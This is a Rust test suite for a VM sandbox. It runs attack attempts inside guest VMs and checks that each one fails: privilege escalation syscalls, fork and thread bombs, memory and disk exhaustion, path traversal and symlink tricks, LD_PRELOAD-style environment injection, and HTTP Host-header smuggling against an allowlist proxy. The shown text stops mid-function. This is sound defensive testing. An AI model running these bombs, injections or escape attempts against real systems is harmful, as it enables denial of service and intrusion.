//! The attack suite: what untrusted code (or a hostile request) tries, on
//! real VMs (TCG here), and the safe behaviour each attempt must meet. Each
//! case carries a one-line comment saying what it proves.
//!
//! VMs are shared wherever one case cannot spoil the next: one VM runs the
//! privilege and no-network cases exec after exec, one the file API cases,
//! one the non-destructive containment cases, one every attack on secrets; fork and thread bombs,
//! memory and disk exhaustion each get a fresh VM. Every test uses its own
//! run dir and ends with the host check: no QEMU or gvproxy mentions it, no
//! work dir and no limits group is left.
//!
//! Covered elsewhere, not repeated here: a `setsid` or double-forked
//! process dies with its exec, set-id files and executables in `/dev`
//! (`images_smoke.rs`, `hardening`); writes to the root block device and
//! the host memory group (`run_e2e.rs`); the ports mode's reach (DNS,
//! public and gateway addresses, gvproxy's forwarding API) and the
//! allowlist's SNI/Host denial of an unknown name (`network_e2e.rs`); a
//! killed QEMU or gvproxy and a killed `airlock` process
//! (`run_e2e.rs`, `network_e2e.rs`, `hardening_e2e.rs`).

#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use airlock::spec::{HostPattern, Secret, SecretValue};
use airlock::{
    Config, EgressTestOverrides, ExecError, InputError, NetworkRequest, RunError, RunRequest,
    Scheduler, Vm, VmManager, VmOptions,
};
use airlock_egress::UpstreamRoots;
use airlock_gvproxy::DomainPattern;
use airlock_protocol::{ErrorKind, ExecRequest, Language, ProtocolError};
use airlock_tests::upstream::{answer_ok, contains, unique_secret, Received, Upstream};
use airlock_tests::{
    exec_request, group_dirs, images_or_skip, last_json, python, serve, text, wait_until_gone,
    RecordingResolver, TestResolver, Trap, NET_PRELUDE,
};
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// The tenant of every VM here (its limits groups are `airlock/attack/*`).
const TENANT: &str = "attack";

/// A private run dir, so the host checks see this test's leftovers only.
fn run_dir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("al-atk")
        .tempdir_in("/tmp")
        .unwrap()
}

fn config(run_dir: &Path) -> Config {
    Config {
        run_dir: run_dir.to_path_buf(),
        overlay_pool_target: 1,
        ..Config::default()
    }
}

fn options(language: Language, memory_mib: u32, network: NetworkRequest) -> VmOptions {
    VmOptions {
        packages: None,
        secrets: None,
        tenant: TENANT.into(),
        language,
        image: None,
        memory_mib,
        vcpus: 1,
        network,
        // The RAM home and /tmp with their tmpfs caps, which these
        // attacks fill (the workspace disk's ENOSPC: workspace_e2e.rs).
        disk_mib: 0,
        mounts: Vec::new(),
    }
}

/// A manager on a private run dir and one Python VM without a network.
async fn one_vm() -> (tempfile::TempDir, VmManager, Vm) {
    let dir = run_dir();
    let manager = VmManager::start(config(dir.path())).await.unwrap();
    let vm = manager
        .boot(&options(Language::Python, 512, NetworkRequest::default()))
        .await
        .unwrap();
    (dir, manager, vm)
}

/// Destroys `vm` and checks that it left nothing: its limits group existed
/// and is gone, its work dir is gone, no QEMU or gvproxy mentions it.
async fn destroy_leaving_nothing(vm: &mut Vm, after: &str) {
    let id = vm.id().to_owned();
    let dir = vm.workdir().path().to_path_buf();
    let groups = group_dirs(TENANT, &id);
    for group in &groups {
        assert!(group.is_dir(), "{after}: the limits group {group:?} exists");
    }
    let report = vm.destroy().await;
    assert!(report.problems.is_empty(), "{after}: {:?}", report.problems);
    assert!(report.workdir_removed && !dir.exists(), "{after}: {dir:?}");
    let gone = wait_until_gone(dir.to_str().unwrap(), Duration::ZERO);
    assert!(gone.is_ok(), "{after}: still running: {gone:?}");
    for group in &groups {
        assert!(!group.exists(), "{after}: {group:?} left");
    }
}

/// The end-of-test host check: nothing running mentions the run dir, and
/// it holds no VM work dir.
async fn run_dir_is_clean(manager: &VmManager, run_dir: &Path) {
    manager.shutdown().await;
    let gone = wait_until_gone(run_dir.to_str().unwrap(), Duration::ZERO);
    assert!(gone.is_ok(), "still running: {gone:?}");
    let left: Vec<PathBuf> = std::fs::read_dir(run_dir.join("vms"))
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "work dirs left: {left:?}");
}

/// Runs `code` and returns the outcome (any exit code).
async fn run(vm: &mut Vm, language: Language, code: &str, timeout_ms: u64) -> airlock::ExecOutcome {
    vm.exec(exec_request(language, code, timeout_ms), |_, _| {})
        .await
        .unwrap_or_else(|e| panic!("{code}: {e}"))
}

/// One attack run as an exec in a shared VM, and the exact stdout of the
/// safe behaviour.
struct Case {
    language: Language,
    code: &'static str,
    expect: &'static str,
}

const fn sh(code: &'static str, expect: &'static str) -> Case {
    Case {
        language: Language::Raw,
        code,
        expect,
    }
}

const fn py(code: &'static str, expect: &'static str) -> Case {
    Case {
        language: Language::Python,
        code,
        expect,
    }
}

/// Helpers the Python cases start with: `call` (a libc call: `ok` or the
/// errno's name) and `attempt` (a Python call: `ok` or the errno's name).
const PY_PRELUDE: &str = r#"
import ctypes, errno, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    if getattr(libc, name)(*args) == -1:
        return errno.errorcode[ctypes.get_errno()]
    return "ok"
def attempt(f, *args):
    try:
        f(*args)
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
"#;

/// Runs the cases one after the other in `vm`; every mismatch is collected
/// and reported together.
async fn run_cases(vm: &mut Vm, cases: &[Case]) {
    let mut failures = Vec::new();
    for case in cases {
        let code = match case.language {
            Language::Python => format!("{PY_PRELUDE}\n{}", case.code),
            _ => case.code.to_owned(),
        };
        let out = run(vm, case.language, &code, 20_000).await;
        if text(&out.stdout) != case.expect {
            failures.push(format!(
                "{}\n  expected {:?}\n  got      {:?} (exit {}, stderr {:?})",
                case.code,
                case.expect,
                text(&out.stdout),
                out.completion.exit_code,
                text(&out.stderr)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Privilege and no-network cases, in one VM without a network.
#[tokio::test(flavor = "multi_thread")]
async fn user_code_has_no_privilege_and_no_network() {
    let Some(_) = images_or_skip("attack_privilege") else {
        return;
    };
    let (dir, manager, mut vm) = one_vm().await;
    let start = Instant::now();
    let cases = [
        // User code runs as the sandbox user with no supplementary group.
        sh("id -u; id -g; id -G", "1000\n1000\n1000\n"),
        // It holds no capability and cannot gain one (no_new_privs).
        py(
            r#"st = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines())
print(*(st[k].strip() for k in ("CapPrm", "CapEff", "CapAmb", "NoNewPrivs")))"#,
            "0000000000000000 0000000000000000 0000000000000000 1\n",
        ),
        // A write to / fails with EROFS.
        py(r#"print(attempt(open, "/pwned", "w"))"#, "EROFS\n"),
        // System files cannot be changed (read-only root).
        py(r#"print(attempt(open, "/etc/passwd", "a"))"#, "EROFS\n"),
        // Mounting a file system is refused.
        py(
            r#"print(call("mount", b"none", b"/tmp", b"tmpfs", 0, None))"#,
            "EPERM\n",
        ),
        // Remounting the root read-write is refused.
        py(
            r#"print(call("mount", None, b"/", None, 32, None))"#,
            "EPERM\n",
        ),
        // A user namespace (`unshare -r`) is refused and the uid stays 1000.
        py(
            r#"print(call("unshare", 0x10000000) != "ok", os.getuid())"#,
            "True 1000\n",
        ),
        // Mount and network namespaces are refused.
        py(
            r#"print(call("unshare", 0x00020000) != "ok", call("unshare", 0x40000000) != "ok")"#,
            "True True\n",
        ),
        // ptrace of PID 1 is refused.
        py(r#"print(call("ptrace", 16, 1, None, None))"#, "EPERM\n"),
        // A raw IP socket is refused.
        py(
            r#"print(attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))"#,
            "EPERM\n",
        ),
        // A packet socket is unavailable.
        py(
            r#"print(attempt(socket.socket, 17, socket.SOCK_RAW, 0) != "ok")"#,
            "True\n",
        ),
        // Binding a port below 1024 is refused.
        py(
            r#"print(attempt(socket.socket().bind, ("127.0.0.1", 80)))"#,
            "EACCES\n",
        ),
        // PID 1's environment cannot be read (its /proc entry is hidden).
        py(
            r#"print(attempt(open, "/proc/1/environ", "rb"))"#,
            "ENOENT\n",
        ),
        // /proc shows the sandbox user's own processes only.
        py(
            r#"pids = [p for p in os.listdir("/proc") if p.isdigit()]
print(sorted({os.stat("/proc/" + p).st_uid for p in pids}), "1" in pids)"#,
            "[1000] False\n",
        ),
        // SIGKILL to PID 1 is refused.
        py("print(attempt(os.kill, 1, 9))", "EPERM\n"),
        // SIGKILL to every other pid reaches no process but its own.
        py(
            r#"me = os.getpid()
print([p for p in range(2, 32768) if p != me and attempt(os.kill, p, 9) == "ok"])"#,
            "[]\n",
        ),
        // kill(-1, SIGKILL) hits only the sandbox user's processes: the
        // caller survives, and the next exec proves the agent did.
        py("os.kill(-1, 9)\nprint('survived')", "survived\n"),
        // /dev/mem, /dev/kmem, /dev/port and /proc/kcore do not exist.
        py(
            r#"print([os.path.exists(p) for p in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore")])"#,
            "[False, False, False, False]\n",
        ),
        // The only devices user code can write are the harmless ones (not
        // the disk, the console, or the agent's virtio ports).
        py(
            r#"import stat
found = []
for name in sorted(os.listdir("/dev")):
    path = "/dev/" + name
    mode = os.lstat(path).st_mode
    if (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) and os.access(path, os.W_OK):
        found.append(name)
print(found)"#,
            "['full', 'null', 'ptmx', 'random', 'tty', 'urandom', 'zero']\n",
        ),
        // The agent's virtio-serial ports exist but cannot be opened.
        py(
            r#"import glob
ports = sorted(glob.glob("/dev/vport*"))
print(len(ports) >= 2, {attempt(open, p, "rb") for p in ports})"#,
            "True {'EACCES'}\n",
        ),
        // The root disk cannot be read raw.
        py(r#"print(attempt(open, "/dev/vda", "rb"))"#, "EACCES\n"),
        // Kernel settings under /proc/sys cannot be changed.
        py(
            r#"print(attempt(open, "/proc/sys/kernel/hostname", "w"))"#,
            "EACCES\n",
        ),
        // The exec cannot leave its cgroup or kill the agent's.
        py(
            r#"print(*(attempt(open, p, "w") for p in ("/sys/fs/cgroup/cgroup.procs",
    "/sys/fs/cgroup/airlock-exec/cgroup.procs", "/sys/fs/cgroup/airlock-exec/cgroup.kill")))"#,
            "EACCES EACCES EACCES\n",
        ),
        // It cannot shield itself from the OOM killer.
        py(
            r#"def lower():
    with open("/proc/self/oom_score_adj", "w") as f:
        f.write("-1000")
print(attempt(lower))"#,
            "EACCES\n",
        ),
        // setuid(0) is refused.
        py("print(attempt(os.setuid, 0))", "EPERM\n"),
        // chroot is refused.
        py(r#"print(attempt(os.chroot, "/tmp"))"#, "EPERM\n"),
        // A device node cannot be made (no way to /dev/mem through mknod).
        py(
            r#"print(attempt(os.mknod, os.path.expanduser("~/mem"), 0o20600, os.makedev(1, 1)))"#,
            "EPERM\n",
        ),
        // The VM cannot be powered off or rebooted from user code.
        py(r#"print(call("reboot", 0x4321fedc))"#, "EPERM\n"),
        // The host name cannot be changed.
        py(r#"print(call("sethostname", b"pwned", 5))"#, "EPERM\n"),
        // The clock cannot be set.
        py(
            "print(attempt(time.clock_settime, time.CLOCK_REALTIME, 0.0))",
            "EPERM\n",
        ),
        // No kernel module can be loaded.
        py(
            r#"print(libc.syscall(175, None, 0, b"") == -1 and ctypes.get_errno() in (errno.EPERM, errno.ENOSYS))"#,
            "True\n",
        ),
        // No I/O port access.
        py(r#"print(call("iopl", 3) in ("EPERM", "ENOSYS"))"#, "True\n"),
        // No network: no route at all (only the header of the route table).
        py(
            r#"print(len(open("/proc/net/route").read().splitlines()))"#,
            "1\n",
        ),
        // No network: a name does not resolve, and fails fast.
        py(
            r#"t = time.monotonic()
try:
    socket.getaddrinfo("example.com", 443)
    print("resolved")
except socket.gaierror:
    print("fail", time.monotonic() - t < 3)"#,
            "fail True\n",
        ),
        // No network: public addresses and the usual gateways are unreachable.
        py(
            r#"def dial(addr):
    s = socket.socket()
    s.settimeout(3)
    return attempt(s.connect, addr)
print(*(dial(a) for a in (("1.1.1.1", 443), ("192.168.127.1", 80), ("10.0.2.2", 80))))"#,
            "ENETUNREACH ENETUNREACH ENETUNREACH\n",
        ),
    ];
    let count = cases.len();
    run_cases(&mut vm, &cases).await;
    // The VM still answers after all of it.
    let alive = run(&mut vm, Language::Raw, "echo alive", 5000).await;
    assert_eq!(text(&alive.stdout), "alive\n");
    eprintln!("{count} privilege cases in {:?}", start.elapsed());
    destroy_leaving_nothing(&mut vm, "privilege cases").await;
    run_dir_is_clean(&manager, dir.path()).await;
}

/// Sandbox processes named `sleep` still alive (the leftovers of an exec).
const COUNT_SLEEPS: &str =
    "for p in /proc/[0-9]*; do cat $p/comm 2>/dev/null; done | grep -cx sleep";

/// Process containment without lasting harm, in one VM: each runaway is
/// ended by its exec's deadline and takes its whole tree with it.
#[tokio::test(flavor = "multi_thread")]
async fn runaway_processes_end_with_their_exec() {
    let Some(_) = images_or_skip("attack_runaways") else {
        return;
    };
    let (dir, manager, mut vm) = one_vm().await;
    // Timeout 1.5 s, kill grace 2 s: an exec that is not done by then is a
    // failure (the margin covers TCG on shared cores).
    let bounded = |what: &str, took: Duration| {
        assert!(took < Duration::from_secs(8), "{what}: took {took:?}");
    };

    // A busy loop is ended by the timeout.
    let t = Instant::now();
    let out = run(&mut vm, Language::Raw, "while :; do :; done", 1500).await;
    assert!(out.completion.timed_out, "busy loop: {out:?}");
    bounded("busy loop", t.elapsed());

    // A process that ignores SIGTERM is killed with SIGKILL after the grace.
    let t = Instant::now();
    let out = run(
        &mut vm,
        Language::Python,
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: pass",
        1500,
    )
    .await;
    assert!(out.completion.timed_out, "SIGTERM ignored: {out:?}");
    assert_eq!(out.completion.exit_code, 137, "SIGTERM ignored: {out:?}");
    assert!(
        t.elapsed() >= Duration::from_millis(3400),
        "{:?}",
        t.elapsed()
    );
    bounded("SIGTERM ignored", t.elapsed());

    // A process tree (children, grandchildren, subshells) dies whole at the timeout.
    let t = Instant::now();
    let out = run(
        &mut vm,
        Language::Raw,
        "sh -c 'sleep 1000 & sleep 1000' & (sleep 1000 &); trap '' TERM; sleep 1000",
        1500,
    )
    .await;
    assert!(out.completion.timed_out, "process tree: {out:?}");
    bounded("process tree", t.elapsed());
    let left = run(&mut vm, Language::Raw, COUNT_SLEEPS, 5000).await;
    assert_eq!(text(&left.stdout), "0\n", "process tree left processes");

    // Background children holding stdout open do not keep a finished exec
    // alive, and die with it.
    let t = Instant::now();
    let out = run(
        &mut vm,
        Language::Raw,
        "sleep 1000 & sleep 1000 2>&1 & echo main-done",
        20_000,
    )
    .await;
    assert_eq!(text(&out.stdout), "main-done\n");
    assert!(!out.completion.timed_out);
    assert!(t.elapsed() < Duration::from_secs(6), "{:?}", t.elapsed());
    let left = run(&mut vm, Language::Raw, COUNT_SLEEPS, 5000).await;
    assert_eq!(text(&left.stdout), "0\n", "background children left");

    // Endless stdout is capped at 4 MiB, flagged, and still ends at the timeout.
    let t = Instant::now();
    let out = run(&mut vm, Language::Raw, "yes", 3000).await;
    assert!(out.completion.timed_out && out.completion.stdout_truncated);
    assert!(
        (4 << 20..(4 << 20) + 4096).contains(&out.stdout.len()),
        "{} bytes",
        out.stdout.len()
    );
    bounded("endless stdout", t.elapsed() - Duration::from_millis(1500));

    // Endless stderr is capped at 1 MiB the same way.
    let out = run(&mut vm, Language::Raw, "yes >&2", 3000).await;
    assert!(out.completion.timed_out && out.completion.stderr_truncated);
    assert!(
        (1 << 20..(1 << 20) + 4096).contains(&out.stderr.len()),
        "{} bytes",
        out.stderr.len()
    );

    // After all of it the VM still runs code, with no leftover process.
    let out = run(&mut vm, Language::Raw, COUNT_SLEEPS, 5000).await;
    assert_eq!(text(&out.stdout), "0\n");
    destroy_leaving_nothing(&mut vm, "runaways").await;
    run_dir_is_clean(&manager, dir.path()).await;
}

/// Boots a fresh VM, runs `code` (timeout `timeout_ms`), checks that the exec ends
/// within its deadline and that the VM then still runs code; returns the
/// outcome of the attack after destroying the VM and checking the host.
async fn in_fresh_vm(
    manager: &VmManager,
    what: &str,
    memory_mib: u32,
    code: &str,
    timeout_ms: u64,
) -> airlock::ExecOutcome {
    let mut vm = manager
        .boot(&options(
            Language::Python,
            memory_mib,
            NetworkRequest::default(),
        ))
        .await
        .unwrap();
    let t = Instant::now();
    let out = vm
        .exec(exec_request(Language::Python, code, timeout_ms), |_, _| {})
        .await
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    let took = t.elapsed();
    eprintln!(
        "{what}: exec ended in {took:?}: exit {} timed_out {}",
        out.completion.exit_code, out.completion.timed_out
    );
    let bound = Duration::from_millis(timeout_ms) + Duration::from_secs(12);
    assert!(took < bound, "{what}: took {took:?}");
    let after = run(&mut vm, Language::Raw, "echo alive", 10_000).await;
    assert_eq!(
        text(&after.stdout),
        "alive\n",
        "{what}: the VM no longer runs code"
    );
    destroy_leaving_nothing(&mut vm, what).await;
    out
}

/// Destructive containment cases, each in a fresh VM: the exec ends, the
/// VM survives it, and the host is left clean.
#[tokio::test(flavor = "multi_thread")]
async fn bombs_and_exhaustion_end_and_leave_the_host_clean() {
    let Some(_) = images_or_skip("attack_bombs") else {
        return;
    };
    let dir = run_dir();
    let manager = VmManager::start(config(dir.path())).await.unwrap();

    // A fork bomb ends at the timeout and the guest recovers.
    let out = in_fresh_vm(
        &manager,
        "fork bomb",
        512,
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        3000,
    )
    .await;
    assert!(out.completion.timed_out, "fork bomb: {out:?}");

    // A thread bomb ends (thread limit or timeout) and the guest recovers.
    let out = in_fresh_vm(
        &manager,
        "thread bomb",
        512,
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
        3000,
    )
    .await;
    assert_ne!(out.completion.exit_code, 0, "thread bomb: {out:?}");

    // Memory exhaustion kills the hog (OOM killer or MemoryError), not the agent.
    let out = in_fresh_vm(
        &manager,
        "memory hog",
        256,
        "chunks = []\nwhile True:\n    chunks.append(bytearray(8 * 1024 * 1024))",
        20_000,
    )
    .await;
    assert!(!out.completion.timed_out, "memory hog: {out:?}");
    assert!(
        [1, 137].contains(&out.completion.exit_code),
        "memory hog: {out:?}"
    );

    run_dir_is_clean(&manager, dir.path()).await;
}

/// Disk exhaustion: the size-capped tmpfs refuse more, the file API fails
/// cleanly while the home is full and works again once it is freed.
#[tokio::test(flavor = "multi_thread")]
async fn a_full_disk_is_refused_cleanly_and_recovers() {
    let Some(_) = images_or_skip("attack_disk") else {
        return;
    };
    let (dir, manager, mut vm) = one_vm().await;
    // Filling the home stops at its cap (256 MiB) with ENOSPC.
    let out = run(
        &mut vm,
        Language::Raw,
        "head -c 400M /dev/zero > ~/fill 2>/dev/null; echo $?; du -m ~/fill | cut -f1",
        60_000,
    )
    .await;
    assert_eq!(text(&out.stdout), "1\n256\n", "{}", text(&out.stderr));
    // /tmp and /dev/shm stop at theirs (64 MiB each).
    let out = run(
        &mut vm,
        Language::Raw,
        "for d in /tmp /dev/shm; do head -c 100M /dev/zero > $d/fill 2>/dev/null; echo $? $(du -m $d/fill | cut -f1); done",
        60_000,
    )
    .await;
    assert_eq!(text(&out.stdout), "1 64\n1 64\n", "{}", text(&out.stderr));
    // The file API reports the full home as an error, not a hang.
    let client = vm.client().unwrap();
    let err = client
        .write_file("more.bin", 0o644, &[7u8; 1 << 20], Duration::from_secs(20))
        .await
        .unwrap_err();
    assert_eq!(err.kind(), airlock_protocol::ErrorKind::Io, "{err}");
    assert!(err.to_string().contains("No space left"), "{err}");
    // Once freed, the home takes files again.
    let out = run(&mut vm, Language::Raw, "rm ~/fill && echo freed", 10_000).await;
    assert_eq!(text(&out.stdout), "freed\n");
    vm.client()
        .unwrap()
        .write_file("more.bin", 0o644, &[7u8; 1 << 20], Duration::from_secs(20))
        .await
        .unwrap();
    destroy_leaving_nothing(&mut vm, "full disk").await;
    run_dir_is_clean(&manager, dir.path()).await;
}

/// Asserts that a file API call was refused by the guest with `kind`.
fn refused<T: std::fmt::Debug>(what: &str, result: Result<T, ProtocolError>, kind: ErrorKind) {
    match result {
        Err(e) => assert_eq!(e.kind(), kind, "{what}: {e}"),
        Ok(v) => panic!("{what}: accepted: {v:?}"),
    }
}

/// The file API against hostile paths and guest-planted links, in one VM;
/// then the agent's own refusal of injection variables that skip the
/// host's check.
#[tokio::test(flavor = "multi_thread")]
async fn the_file_api_stays_inside_the_home() {
    let Some(_) = images_or_skip("attack_files") else {
        return;
    };
    let (dir, manager, mut vm) = one_vm().await;
    // User code plants links out of the home, and a FIFO.
    let planted = run(
        &mut vm,
        Language::Raw,
        "cd ~ && ln -s /etc/passwd pw && ln -s /etc etcdir && ln -s /tmp/owned out \
         && ln -s /tmp tmpdir && ln -s /proc/self/root root && mkfifo fifo && echo planted",
        10_000,
    )
    .await;
    assert_eq!(
        text(&planted.stdout),
        "planted\n",
        "{}",
        text(&planted.stderr)
    );
    let client = vm.client().unwrap();
    let t = Duration::from_secs(10);
    let data = b"x".as_slice();
    use ErrorKind::{InvalidPath, LimitExceeded};

    // `..` cannot climb out of the home, for writes, reads or listings.
    refused(
        "write ../x",
        client.write_file("../x", 0o644, data, t).await,
        InvalidPath,
    );
    // `..` hidden inside a path is refused too.
    refused(
        "write a/../../x",
        client.write_file("a/../../x", 0o644, data, t).await,
        InvalidPath,
    );
    // Reading through `..` is refused.
    refused(
        "read ../../etc/passwd",
        client.read_file("../../etc/passwd", t).await,
        InvalidPath,
    );
    // Listing through `..` is refused.
    refused("list ..", client.list_files("..", t).await, InvalidPath);
    // An absolute path is refused for writes...
    refused(
        "write /tmp/abs",
        client.write_file("/tmp/abs", 0o644, data, t).await,
        InvalidPath,
    );
    // ...and for reads.
    refused(
        "read /etc/passwd",
        client.read_file("/etc/passwd", t).await,
        InvalidPath,
    );
    // A NUL byte in a name is refused (no truncation to another name).
    refused(
        "write a\\0b",
        client.write_file("a\0b", 0o644, data, t).await,
        InvalidPath,
    );
    // An over-long path is refused.
    let long = vec!["a"; 2100].join("/");
    refused(
        "write long",
        client.write_file(&long, 0o644, data, t).await,
        InvalidPath,
    );
    // A guest symlink to /etc/passwd is not followed on read.
    let read = client.read_file("pw", t).await;
    assert!(read.is_err(), "read through a symlink: {read:?}");
    // A symlinked directory is not followed on read...
    let read = client.read_file("etcdir/passwd", t).await;
    assert!(read.is_err(), "read through a symlinked dir: {read:?}");
    // ...nor on listing.
    let list = client.list_files("etcdir", t).await;
    assert!(list.is_err(), "list through a symlinked dir: {list:?}");
    // Nor through /proc's magic links.
    let read = client.read_file("root/etc/passwd", t).await;
    assert!(read.is_err(), "read through /proc/self/root: {read:?}");
    // A write into a symlinked directory is refused.
    let write = client.write_file("tmpdir/x", 0o644, data, t).await;
    assert!(write.is_err(), "write through a symlinked dir: {write:?}");
    // A write onto a symlink replaces the link, never its target.
    client.write_file("out", 0o644, b"mine", t).await.unwrap();
    // Reading a FIFO fails at once instead of hanging the host.
    let started = Instant::now();
    let read = client.read_file("fifo", t).await;
    assert!(read.is_err(), "read of a FIFO: {read:?}");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    // A write announced over the agent's size cap (64 GiB: a sanity bound,
    // as files are streamed) is refused before any byte is sent: the
    // source here has none to give.
    let over_cap = (64u64 << 30) + 1;
    let mut nothing: &[u8] = &[];
    let started = Instant::now();
    refused(
        "write over the cap",
        client
            .write_file_from("huge", 0o644, Some(over_cap), &mut nothing, u64::MAX, t)
            .await,
        LimitExceeded,
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    let after = run(
        &mut vm,
        Language::Raw,
        "cd ~ && test -f out && ! test -L out && cat out; echo; \
         ls /tmp/abs /tmp/x /tmp/owned /home/x 2>&1 | grep -c 'No such file'; ls ~",
        10_000,
    )
    .await;
    assert_eq!(
        text(&after.stdout),
        "mine\n4\netcdir\nfifo\nout\npw\nroot\ntmpdir\n",
        "{}",
        text(&after.stderr)
    );

    // Injection variables sent straight to the agent (skipping the host's
    // check) are refused by the agent, naming the variable.
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("ld_preload", "/tmp/x.so"),
        ("TERM", "\u{1b}]0;x\u{7}"),
    ] {
        let mut request = exec_request(Language::Raw, "echo ran", 5000);
        request.env.insert(name.into(), value.into());
        match vm.exec(request, |_, _| {}).await {
            Err(ExecError::Protocol { source, .. }) => {
                assert_eq!(source.kind(), ErrorKind::EnvRefused, "{name}: {source}");
                assert!(source.to_string().contains(name), "{name}: {source}");
            }
            other => panic!("{name}: {other:?}"),
        }
    }
    // An exec's working directory cannot be outside the home.
    for cwd in ["/etc", "../..", "etcdir"] {
        let request = ExecRequest {
            cwd: Some(cwd.into()),
            ..exec_request(Language::Raw, "pwd", 5000)
        };
        let result = vm.exec(request, |_, _| {}).await;
        assert!(
            matches!(&result, Err(ExecError::Protocol { .. })),
            "cwd {cwd}: {result:?}"
        );
    }
    destroy_leaving_nothing(&mut vm, "file API").await;
    run_dir_is_clean(&manager, dir.path()).await;
}

/// Injection through the environment is refused before any VM boots, with
/// an `env` error naming the variable.
#[tokio::test(flavor = "multi_thread")]
async fn env_injection_is_refused_before_boot() {
    let Some(_) = images_or_skip("attack_env") else {
        return;
    };
    let dir = run_dir();
    let scheduler = Scheduler::start(Config {
        overlay_pool_target: 0,
        ..config(dir.path())
    })
    .await
    .unwrap();
    let cases = [
        // The loader's preload.
        ("LD_PRELOAD", "/home/sandbox/x.so"),
        // The same in lower case (programs that ignore case).
        ("ld_preload", "/home/sandbox/x.so"),
        // Any loader variable.
        ("LD_LIBRARY_PATH", "/home/sandbox"),
        // Python's startup file.
        ("PYTHONSTARTUP", "/home/sandbox/x.py"),
        // Node's preload options.
        ("NODE_OPTIONS", "--require /home/sandbox/x.js"),
        // bash's startup file.
        ("BASH_ENV", "/home/sandbox/x.sh"),
        // The interpreter search path.
        ("PATH", "/home/sandbox"),
        // Airlock's own namespace.
        ("AIRLOCK_DEBUG", "1"),
        // A terminal escape in a value.
        ("GREETING", "\u{1b}[2J"),
        // A newline in a value.
        ("GREETING", "a\nb"),
    ];
    for (name, value) in cases {
        let mut request = RunRequest::new(Language::Raw, "echo ran");
        request.env.insert(name.into(), value.into());
        let started = Instant::now();
        match scheduler.run(request).await {
            Err(RunError::Input(InputError::Invalid { field, message })) => {
                assert_eq!(field, "env", "{name}: {message}");
                assert!(message.contains(name), "{name}: {message}");
            }
            other => panic!("{name}={value:?}: expected InvalidInput, got {other:?}"),
        }
        assert!(
            started.elapsed() < Duration::from_millis(200),
            "{name}: a VM was booted?"
        );
    }
    // Nothing was started.
    run_dir_is_clean(
        scheduler
            .manager()
            .expect("a started scheduler has a VM manager"),
        dir.path(),
    )
    .await;
}

/// Allowlist mode: other names through the proxy. `denied.test` resolves
/// (on the host) to a trap, so any trick that makes the proxy dial it is
/// caught; `allowed.test` is a plain upstream.
#[tokio::test(flavor = "multi_thread")]
async fn the_allowlist_proxy_dials_no_other_name() {
    let Some(_) = images_or_skip("attack_allowlist") else {
        return;
    };
    let trap = Trap::new();
    let trap_addr = SocketAddr::from((Ipv4Addr::LOCALHOST, trap.port()));
    let http = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let allowed = http.local_addr().unwrap();
    serve(http, "allowed-upstream-ok", Some);
    let dir = run_dir();
    let manager = VmManager::start(Config {
        egress_test: EgressTestOverrides {
            resolver: Some(Arc::new(TestResolver(vec![
                ("allowed.test", 80, allowed),
                ("denied.test", 80, trap_addr),
                ("denied.test", 443, trap_addr),
            ]))),
            allow_private: true,
            ..EgressTestOverrides::default()
        },
        ..config(dir.path())
    })
    .await
    .unwrap();
    let network = NetworkRequest {
        allow: Some(vec![DomainPattern::parse("allowed.test").unwrap()]),
        ..NetworkRequest::default()
    };
    let mut vm = manager
        .boot(&options(Language::Python, 512, network))
        .await
        .unwrap();
    let code = format!(
        "{NET_PRELUDE}\n{}",
        r#"
import ssl, time, urllib.request
PROXY = "192.168.127.254"
def raw(port, payload, piece=None):
    try:
        with socket.create_connection((PROXY, port), timeout=5) as s:
            for i in range(0, len(payload), piece or len(payload)):
                s.sendall(payload[i:i + (piece or len(payload))])
                if piece:
                    time.sleep(0.01)
            return recv_all(s)
    except Exception as e:
        return "closed " + type(e).__name__
def http(*lines):
    return raw(80, ("\r\n".join(lines) + "\r\n\r\n").encode())
def client_hello(sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
def add_zone(zone):
    req = urllib.request.Request("http://192.168.127.1/services/dns/add",
                                 data=json.dumps(zone).encode(), method="POST")
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status
    except Exception as e:
        return repr(e)
out = {}
out["control"] = http("GET / HTTP/1.1", "Host: allowed.test", "Connection: close")
out["pipelined"] = http("GET / HTTP/1.1", "Host: allowed.test", "", "GET / HTTP/1.1", "Host: denied.test")
out["absolute_uri"] = http("GET http://denied.test/ HTTP/1.1", "Host: allowed.test", "Connection: close")
out["dup_host"] = http("GET / HTTP/1.1", "Host: allowed.test", "Host: denied.test", "Connection: close")
out["dup_host_rev"] = http("GET / HTTP/1.1", "Host: denied.test", "Host: allowed.test", "Connection: close")
out["upper"] = http("GET / HTTP/1.1", "Host: DENIED.TEST", "Connection: close")
out["dot"] = http("GET / HTTP/1.1", "Host: denied.test.", "Connection: close")
